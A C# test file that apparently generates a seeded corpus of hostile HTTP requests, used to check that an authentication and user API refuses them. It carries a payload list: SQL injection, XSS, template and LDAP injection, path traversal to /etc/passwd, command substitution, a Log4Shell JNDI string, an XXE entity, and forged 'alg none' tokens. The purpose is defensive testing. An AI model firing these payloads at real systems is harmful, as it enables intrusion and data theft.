using System.Text;
using System.Text.Json.Nodes;
using Api.Hosting;

namespace Tests.Security;

/// <summary>
/// Generates the hostile corpus: every route of both front ends, crossed with the ways a client can
/// misbehave. The same seed always yields the same requests. Every request is otherwise well formed
/// (a registration names a fresh address, a valid name and password), so the hostile part alone is
/// what must get it refused: "stores nothing" fails the moment one slips through. Hostile values that
/// are acceptable as data (an injection string as a name or password) are therefore put only where
/// the rules refuse them (the email), and a JSON media-type variant the API may accept is sent only
/// where no credential can succeed.
/// </summary>
public sealed class HostileCorpus(int seed, Guid ownUserId, string ownPassword)
{
    private readonly Random _random = new(seed);

    private enum Shape
    {
        None,
        Login,
        Refresh,
        Introspect,
        Create,
        Update,
        Forgot,
        Reset,
        VerifyEmail,
        LoginMfa,
        TotpSetup,
        TotpConfirm,
        TotpDisable,
    }

    private sealed record Route(FrontEnd FrontEnd, string Method, string Template, Shape Shape, bool NeedsToken);

    private static readonly Route[] Routes =
    [
        new(FrontEnd.Auth, "POST", "/auth/login", Shape.Login, false),
        new(FrontEnd.Auth, "POST", "/auth/refresh", Shape.Refresh, false),
        new(FrontEnd.Auth, "POST", "/auth/logout", Shape.None, true),
        new(FrontEnd.Auth, "POST", "/auth/logout-all", Shape.None, true),
        new(FrontEnd.Auth, "GET", "/auth/me", Shape.None, true),
        new(FrontEnd.Auth, "GET", "/auth/sessions", Shape.None, true),
        new(FrontEnd.Auth, "DELETE", "/auth/sessions/{id}", Shape.None, true),
        new(FrontEnd.Auth, "POST", "/auth/introspect", Shape.Introspect, false),
        new(FrontEnd.Users, "POST", "/user/create", Shape.Create, false),
        new(FrontEnd.Users, "PUT", "/user/update/{id}", Shape.Update, true),
        new(FrontEnd.Users, "GET", "/user/{id}", Shape.None, true),
        new(FrontEnd.Users, "GET", "/user", Shape.None, true),
        new(FrontEnd.Users, "DELETE", "/user/{id}", Shape.None, true),
        new(FrontEnd.Auth, "POST", "/auth/password/forgot", Shape.Forgot, false),
        new(FrontEnd.Auth, "POST", "/auth/password/reset", Shape.Reset, false),
        new(FrontEnd.Auth, "POST", "/auth/login/mfa", Shape.LoginMfa, false),
        new(FrontEnd.Auth, "POST", "/auth/mfa/totp", Shape.TotpSetup, true),
        new(FrontEnd.Auth, "POST", "/auth/mfa/totp/confirm", Shape.TotpConfirm, true),
        new(FrontEnd.Auth, "DELETE", "/auth/mfa/totp", Shape.TotpDisable, true),
        new(FrontEnd.Users, "POST", "/user/verify-email", Shape.VerifyEmail, false),
        new(FrontEnd.Users, "POST", "/user/verify-email/resend", Shape.None, true),
        new(FrontEnd.Users, "DELETE", "/user/{id}/mfa", Shape.None, true),
    ];

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)--", "admin'--",
        "') UNION SELECT id, password FROM users--", "%27%20OR%201=1", "$where: '1 == 1'", "{\"$gt\": \"\"}",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}",
        "#{7*7}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "*)(uid=*))(|(uid=*", "| cat /etc/passwd",
        "`id`", "$(id)", "\r\nSet-Cookie: x=1", "%0d%0aLocation:%20http://evil", "${jndi:ldap://evil/a}",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "\u202Eevil\u202C", "A\u0000B", "\uFEFFadmin@example.com", "admin@example.com\u0000", "ADMIN@EXAMPLE.COM ",
    ];

    private static readonly string[] BrokenAuthorizations =
    [
        "", "Bearer", "Bearer ", "Bearer  ", "bearer", "Basic YWRtaW46YWRtaW4=", "Digest username=\"admin\"",
        "Bearer null", "Bearer undefined", "Bearer a.b.c", "Bearer ...", "Bearer ..", "Bearer a.b.c.d.e",
        "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.", "Bearer %00",
        "Bearer {valid-token}x", "Bearer x{valid-token}", "Bearer {valid-token}, Bearer {valid-token}",
        "Bearer {valid-token} {valid-token}", "Token {valid-token}", "Bearer\t{valid-token}", "{valid-token}",
        "Bearer " + new string('A', 8000), "Bearer " + new string('.', 500), "Bearer ====", "Bearer e30=.e30=.e30=",
    ];

    private static readonly string[] OddMethods = ["PATCH", "OPTIONS", "TRACE", "HEAD", "PROPFIND", "FOO", "M-SEARCH", "MKCOL", "COPY", "LOCK"];

    private static readonly string[] NotJsonContentTypes =
    [
        "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "application/xml",
        "text/html", "application/octet-stream", "application/jsonx", "image/png", "text/json", "application/javascript",
    ];

    private static readonly string[] CharsetContentTypes =
    [
        "application/json; charset=utf-16", "application/json; charset=bogus", "application/json; charset=\"utf-8\"",
        "APPLICATION/JSON", "application/json;;;", "application/json; charset=utf-32", "application/problem+json",
        "application/json; charset=iso-8859-1", "application/merge-patch+json",
    ];

    // Path segments as they go on the wire (already percent-encoded).
    private static readonly string[] NotUuids =
    [
        "1", "-1", "0", "99999999999999999999", "null", "undefined", "me", "admin", "'%20OR%201=1--", "..%2Fauth%2Fme",
        "%2e%2e%2f", "00000000-0000-0000-0000-00000000000G", "00000000-0000-0000-0000-0000000000000",
        "%7B00000000-0000-0000-0000-000000000000", "%F0%9F%98%80", "1e308", "NaN", "%3Cscript%3E", new string('a', 2000),
        "%20", "%09", "%0d%0a", "%25", "%2F%2F",
    ];

    // Segments Kestrel may refuse while decoding the path, before the application sees the request.
    private static readonly string[] NotUuidsKestrelMayRefuse = ["%00", "%ff%fe", "%C0%AF", "a%00b"];

    public List<HostileRequest> Generate(int count)
    {
        var strategies = new (string Kind, Func<Route, bool> Applies, Func<Route, HostileRequest> Make)[]
        {
            ("random bytes", _ => true, RandomBytes),
            ("not a JSON content type", r => r.Shape != Shape.None, NotJsonContentType),
            ("charset and JSON media type variants", r => r.Shape is Shape.Login or Shape.Refresh, CharsetVariant),
            ("malformed JSON", r => r.Shape != Shape.None, MalformedJson),
            ("deeply nested JSON", r => r.Shape != Shape.None, DeeplyNested),
            ("body over 64 KiB", _ => true, Oversized),
            ("NUL and control characters", r => r.Shape != Shape.None, ControlCharacters),
            ("very long strings", r => r.Shape is not (Shape.None or Shape.Introspect), LongStrings),
            ("injection strings", r => r.Shape is not (Shape.None or Shape.Introspect) || r.Template.Contains("{id}") || r.Template == "/user", Injection),
            ("numbers out of range and wrong types", r => r.Shape != Shape.None || r.Template == "/user", NumbersAndTypes),
            ("invalid UTF-8 and UTF-16", r => r.Shape != Shape.None, InvalidUnicode),
            ("ids that are not UUIDs", r => r.Template.Contains("{id}"), NotUuid),
            ("broken Authorization headers", r => r.NeedsToken || r.Shape == Shape.Create, BrokenAuthorization),
            ("odd HTTP methods", _ => true, OddMethod),
            ("long headers and URLs", _ => true, OverLimits),
            ("control characters in headers", _ => true, HeaderControlCharacters),
        };

        var requests = new List<HostileRequest>(count);
        while (requests.Count < count)
        {
            // Round-robin over strategies keeps every kind well represented; the route is drawn at random.
            foreach (var (kind, applies, make) in strategies)
            {
                var candidates = Routes.Where(applies).ToArray();
                var request = make(candidates[_random.Next(candidates.Length)]);
                requests.Add(request with { Kind = kind });
            }
        }

        return requests;
    }

    private HostileRequest RandomBytes(Route route)
    {
        var body = new byte[_random.Next(0, 4096)];
        _random.NextBytes(body);
        return Base(route) with { Body = body, ContentType = Pick(["application/json", "application/json; charset=utf-8", null]) };
    }

    private HostileRequest NotJsonContentType(Route route)
    {
        var (body, registration) = PlausibleBody(route);
        return Base(route) with { Body = body, ContentType = Pick([.. NotJsonContentTypes, null]), Registration = registration };
    }

    private HostileRequest CharsetVariant(Route route)
    {
        var (body, registration) = PlausibleBody(route);
        var contentType = Pick(CharsetContentTypes);
        if (contentType.Contains("utf-16") && _random.Next(2) == 0)
        {
            body = Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(body));
        }

        return Base(route) with { Body = body, ContentType = contentType, Registration = registration };
    }

    private HostileRequest MalformedJson(Route route)
    {
        var (body, _) = PlausibleBody(route);
        var json = Encoding.UTF8.GetString(body);
        var malformed = _random.Next(16) switch
        {
            0 => json[..(_random.Next(json.Length))],
            1 => json + Pick(["}", "]", ",", "garbage", "{}", "\"", "\0"]),
            2 => json.Replace('"', '\''),
            3 => json.Replace(":", ""),
            4 => json.Replace("}", ",}"),
            5 => "/* comment */" + json,
            6 => json.Replace("{\"", "{"),
            7 => Pick(["null", "[]", "\"string\"", "123", "true", "{}", "[{}]", "", " ", "{", "}", "NaN", "Infinity", "-0", "[null]"]),
            8 => "\uFEFF\uFEFF" + json,
            9 => json.Insert(1, "\"a\":1,\"a\":2,"),
            10 => json.Insert(1, "\n//x\n"),
            11 => json + json,
            12 => "{\"__proto__\":{\"admin\":true}," + json[1..],
            13 => json.Replace("\"", "\\\""),
            14 => $"[{json}]",
            _ => new string(json.Reverse().ToArray()),
        };
        return Base(route) with { Body = Encoding.UTF8.GetBytes(malformed), ContentType = "application/json" };
    }

    private HostileRequest DeeplyNested(Route route)
    {
        var (open, close) = _random.Next(3) switch
        {
            0 => ("[", "]"),
            1 => ("{\"a\":", "}"),
            _ => ("{\"name\":[", "]}"),
        };

        // Up to what fits under the body limit, so that depth, not size, is what gets refused.
        var depth = Math.Min(Pick([ApiHost.MaxJsonDepth + 1, 64, 1000, 10_000, 30_000]), 60_000 / (open.Length + close.Length));
        var nested = string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth));
        var body = _random.Next(2) == 0 ? nested : $"{{\"{FieldOf(route)}\":{nested}}}";
        return Base(route) with { Body = Encoding.UTF8.GetBytes(body), ContentType = "application/json" };
    }

    private HostileRequest Oversized(Route route)
    {
        var size = (int)ApiHost.MaxRequestBodyBytes + Pick([1, 100, 10_000, 200_000]);
        var field = route.Shape == Shape.None ? "x" : FieldOf(route);
        var filler = new string('a', size);
        return Base(route) with
        {
            Body = Encoding.UTF8.GetBytes($"{{\"{field}\":\"{filler}\"}}"),
            ContentType = "application/json",
            Chunked = _random.Next(2) == 0,
        };
    }

    private HostileRequest ControlCharacters(Route route)
    {
        // Raw in a JSON string, the C0 controls are invalid and the others valid but hostile.
        var c0 = _random.Next(2) == 0 || route.Shape == Shape.Introspect;
        var control = (char)(c0 ? Pick([0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 31]) : Pick([0, 1, 27, 127, 0x85, 0x2028, 0x2029, 0x200B, 0x202E]));
        var value = $"ad{control}min{control}@example.com";
        if (c0)
        {
            // Raw, unescaped: not valid JSON at all.
            var (raw, _) = PlausibleBody(route, FieldOf(route), "MARK");
            var bytes = Encoding.UTF8.GetString(raw).Replace("MARK", value);
            return Base(route) with { Body = Encoding.UTF8.GetBytes(bytes), ContentType = "application/json" };
        }

        // Unescaped they are invalid JSON anywhere; escaped, a password may hold them, a name only the C0/C1 ones.
        var field = route.Shape is Shape.Create or Shape.Update && (!char.IsControl(control) || _random.Next(2) == 0) ? "email" : FieldOf(route);
        field = field is "password" or "currentPassword" ? "email" : field;
        var (body, registration) = PlausibleBody(route, field, value);
        return Base(route) with { Body = body, ContentType = "application/json", Registration = registration };
    }

    private HostileRequest LongStrings(Route route)
    {
        var length = Pick([129, 255, 1_000, 10_000, 60_000]);
        var value = _random.Next(2) == 0 ? new string('x', length) : $"{new string('x', length)}@example.com";
        var (body, registration) = PlausibleBody(route, FieldOf(route), value);
        return Base(route) with { Body = body, ContentType = "application/json", Registration = registration };
    }

    private HostileRequest Injection(Route route)
    {
        var payload = Pick(Injections);
        if (route.Template.Contains("{id}") && (route.Shape == Shape.None || _random.Next(2) == 0))
        {
            // Kestrel refuses a path with an encoded NUL itself.
            var segment = Uri.EscapeDataString(payload);
            return Base(route, id: segment) with { BeyondServerLimits = segment.Contains("%00", StringComparison.Ordinal) };
        }

        if (route.Template == "/user")
        {
            var name = Pick(["page", "pageSize", "email", "sort", "filter"]);
            return Base(route) with { Path = $"/user?{name}={Uri.EscapeDataString(payload)}" };
        }

        // As a name or a password an injection string is acceptable data; an address it never is.
        var field = route.Shape is Shape.Create or Shape.Update ? "email" : FieldOf(route);
        var (body, registration) = PlausibleBody(route, field, payload);
        return Base(route) with { Body = body, ContentType = "application/json", Registration = registration };
    }

    private HostileRequest NumbersAndTypes(Route route)
    {
        if (route.Template == "/user" || route.Shape == Shape.None)
        {
            var query = Pick(["page=1e3", "page=-1", "page=99999999999", "page=0x10", "pageSize=2147483648", "pageSize=-2147483649",
                "page=1.5", "page=%201", "page=1&page=2", "pageSize=NaN", "page=", "pageSize=1e-3", "page=٣"]);
            return Base(route) with { Path = $"/user?{query}" };
        }

        JsonNode? value = _random.Next(10) switch
        {
            0 => JsonNode.Parse("1e400"),
            1 => JsonNode.Parse("-1e400"),
            2 => JsonNode.Parse("18446744073709551616"),
            3 => JsonNode.Parse("-0.0"),
            4 => true,
            5 => new JsonObject { ["nested"] = "x" },
            6 => new JsonArray(1, 2, 3),
            7 => JsonNode.Parse("123456789012345678901234567890.5e-999"),
            8 => 42,
            _ => null,
        };
        var field = FieldOf(route);
        var (body, _) = PlausibleBody(route, field, value);
        return Base(route) with { Body = body, ContentType = "application/json" };
    }

    private HostileRequest InvalidUnicode(Route route)
    {
        var (raw, _) = PlausibleBody(route, FieldOf(route), "MARK");
        var json = raw.AsSpan();
        var at = json.IndexOf("MARK"u8);
        byte[] replacement = _random.Next(7) switch
        {
            0 => [0xC3, 0x28],
            1 => [0xFF, 0xFE],
            2 => [0xC0, 0xAF],
            3 => [0xED, 0xA0, 0x80],
            4 => [0xF4, 0x90, 0x80, 0x80],
            5 => "\\ud800"u8.ToArray(),
            _ => "\\udfff\\ud800x"u8.ToArray(),
        };
        var body = new byte[json.Length - 4 + replacement.Length];
        json[..at].CopyTo(body);
        replacement.CopyTo(body, at);
        json[(at + 4)..].CopyTo(body.AsSpan(at + replacement.Length));
        return Base(route) with { Body = body, ContentType = "application/json" };
    }

    private HostileRequest NotUuid(Route route)
    {
        var refusable = _random.Next(5) == 0;
        var request = Base(route, id: Pick(refusable ? NotUuidsKestrelMayRefuse : NotUuids)) with { BeyondServerLimits = refusable };
        return route.Shape == Shape.Update ? request with { Body = Encoding.UTF8.GetBytes("{\"name\":\"x\"}"), ContentType = "application/json" } : request;
    }

    private HostileRequest BrokenAuthorization(Route route)
    {
        var request = Base(route) with { Authorization = Pick(BrokenAuthorizations) };
        if (route.Shape is Shape.Create)
        {
            // Registration reads an optional token: a broken one must not lend admin rights to set permissions.
            var body = new JsonObject
            {
                ["name"] = "Mallory",
                ["email"] = $"broken-auth-{_random.Next():x}@corpus.test",
                ["password"] = "correct horse battery",
                ["permissions"] = new JsonArray("admin"),
            };
            request = request with { Body = Encoding.UTF8.GetBytes(body.ToJsonString()), ContentType = "application/json" };
        }

        return route.Shape == Shape.Update ? request with { Body = Encoding.UTF8.GetBytes("{\"name\":\"x\"}"), ContentType = "application/json" } : request;
    }

    private HostileRequest OddMethod(Route route)
    {
        // The same path under a method it does not serve: an unknown verb, or another route's verb.
        var method = Pick([.. OddMethods, route.Method == "GET" ? "POST" : "GET", route.Method == "DELETE" ? "PUT" : "DELETE"]);
        return Base(route) with { Method = method };
    }

    private HostileRequest OverLimits(Route route)
    {
        var request = Base(route);
        return _random.Next(5) switch
        {
            0 => request with
            {
                Headers = [new("X-Padding", new string('h', ApiHost.MaxRequestHeaderBytes + _random.Next(1, 20_000)))],
                BeyondServerLimits = true,
            },
            1 => request with
            {
                Headers = [.. Enumerable.Range(0, ApiHost.MaxRequestHeaderCount + _random.Next(1, 60)).Select(i => new KeyValuePair<string, string>($"X-H{i}", "v"))],
                BeyondServerLimits = true,
            },
            2 => request with { Path = $"{request.Path}?q={new string('q', ApiHost.MaxRequestLineBytes + _random.Next(1, 10_000))}", BeyondServerLimits = true },
            3 => request with { Authorization = "Bearer " + new string('e', ApiHost.MaxRequestHeaderBytes + 10), BeyondServerLimits = true },
            // Just under the limits: these reach the application and get its own answer.
            _ => request with { Headers = [new("X-Padding", new string('h', ApiHost.MaxRequestHeaderBytes / 2)), new("X-Forwarded-For", "127.0.0.1, 10.0.0.1"), new("X-Original-URL", "/admin")] },
        };
    }

    private HostileRequest HeaderControlCharacters(Route route)
    {
        var value = Pick(["a\0b", "\u0001\u0002", "é-ü-ö", "😀", "\u007f", "x\u001bx", "\u0085", "\u2028"]);
        var request = Base(route);
        return _random.Next(3) switch
        {
            0 => request with { Authorization = $"Bearer {value}", BeyondServerLimits = true },
            1 => request with { Headers = [new("User-Agent", value)], BeyondServerLimits = true },
            _ => request with { Headers = [new("If-Match", $"\"{value}\"")], BeyondServerLimits = true },
        };
    }

    /// <summary>The route with a path, a credential that cannot succeed, and no body.</summary>
    private HostileRequest Base(Route route, string? id = null)
    {
        // An authenticated route with the live token would succeed (or log the user out), except where
        // the request is refused for another reason: another user's id, or a body that is always wrong.
        var ownUpdate = route.Shape == Shape.Update && _random.Next(2) == 0;
        id ??= ownUpdate ? ownUserId.ToString() : Pick([Guid.NewGuid().ToString(), Guid.Empty.ToString(), Guid.NewGuid().ToString("N")]);
        var path = route.Template.Replace("{id}", id);
        // The second-factor routes with the live token still fail: the corpus never sends them the user's password,
        // so no setup is ever pending, and no code can be confirmed.
        var validTokenIsSafe = route.Template.Contains("{id}") || route.Template == "/user"
            || route.Shape is Shape.Create or Shape.TotpSetup or Shape.TotpConfirm or Shape.TotpDisable;
        var authorization = validTokenIsSafe && _random.Next(3) > 0
            ? $"Bearer {HostileRequest.ValidTokenPlaceholder}"
            : _random.Next(4) == 0 ? "Bearer " + Guid.NewGuid() : null;
        return new HostileRequest("", route.FrontEnd, route.Method, path) { Authorization = authorization };
    }

    private static string[] Fields(Shape shape) => shape switch
    {
        Shape.Login => ["email", "password"],
        Shape.Refresh => ["refreshToken"],
        Shape.Introspect => ["token"],
        Shape.Create => ["name", "email", "password"],
        Shape.Update => ["name", "email", "password", "currentPassword"],
        Shape.Forgot => ["email"],
        Shape.Reset => ["token", "newPassword"],
        Shape.VerifyEmail => ["token"],
        Shape.LoginMfa => ["mfaTicket", "code"],
        Shape.TotpSetup => ["currentPassword"],
        Shape.TotpConfirm => ["code"],
        Shape.TotpDisable => ["currentPassword", "code"],
        _ => ["x"],
    };

    private string FieldOf(Route route) => Pick(Fields(route.Shape));

    /// <summary>
    /// A body of the right shape for the route, valid but for <paramref name="field"/>, set to the hostile
    /// value. An update then names only that field, so nothing else in it could be applied.
    /// </summary>
    private (byte[] Body, (string, string)? Registration) PlausibleBody(Route route, string? field = null, JsonNode? value = null)
    {
        var n = _random.Next();
        var body = route.Shape switch
        {
            Shape.Login => new JsonObject { ["email"] = $"corpus-{n:x}@corpus.test", ["password"] = $"corpus password {n:x}" },
            Shape.Refresh => new JsonObject { ["refreshToken"] = $"{Guid.NewGuid():N}.{Convert.ToBase64String(Guid.NewGuid().ToByteArray())}" },
            Shape.Introspect => new JsonObject { ["token"] = 12345 },
            Shape.Create => new JsonObject { ["name"] = "Corpus", ["email"] = $"corpus-{n:x}@corpus.test", ["password"] = $"corpus password {n:x}" },
            Shape.Update => field is null ? new JsonObject { ["name"] = "Corpus" } : new JsonObject(),
            Shape.Forgot => new JsonObject { ["email"] = $"corpus-{n:x}@corpus.test" },
            Shape.Reset => new JsonObject { ["token"] = AccountToken(), ["newPassword"] = $"corpus password {n:x}" },
            Shape.VerifyEmail => new JsonObject { ["token"] = AccountToken() },
            Shape.LoginMfa => new JsonObject { ["mfaTicket"] = AccountToken(), ["code"] = "123456" },
            Shape.TotpSetup => new JsonObject { ["currentPassword"] = "corpus password" },
            Shape.TotpConfirm => new JsonObject { ["code"] = "123456" },
            Shape.TotpDisable => new JsonObject { ["currentPassword"] = "corpus password", ["code"] = "123456" },
            _ => new JsonObject { ["x"] = "y" },
        };
        if (field is not null)
        {
            body[field] = value?.DeepClone();
        }

        // A user changes their own email or password only with the current one: give it, so the hostile value alone is wrong.
        if (route.Shape == Shape.Update && field is "email" or "password")
        {
            body["currentPassword"] = ownPassword;
        }

        // Forgot-password answers every well-formed address alike with 202 and stores nothing, so a hostile value
        // that is still an address (a trailing space, say) would pass: an unknown member keeps the request refused.
        if (route.Shape is Shape.Forgot)
        {
            body["unexpected"] = true;
        }

        (string, string)? registration = route.Shape == Shape.Create
            && body["email"] is JsonValue email && email.TryGetValue<string>(out var e)
            && body["password"] is JsonValue password && password.TryGetValue<string>(out var p)
                ? (e, p)
                : null;
        return (Encoding.UTF8.GetBytes(body.ToJsonString()), registration);
    }

    /// <summary>A token of the mailed tokens' shape (user id, 256 bits) that no grain ever issued.</summary>
    private string AccountToken()
    {
        var secret = new byte[32];
        _random.NextBytes(secret);
        return $"{Guid.NewGuid():N}.{Convert.ToBase64String(secret).TrimEnd('=').Replace('+', '-').Replace('/', '_')}";
    }

    private T Pick<T>(T[] options) => options[_random.Next(options.Length)];
}
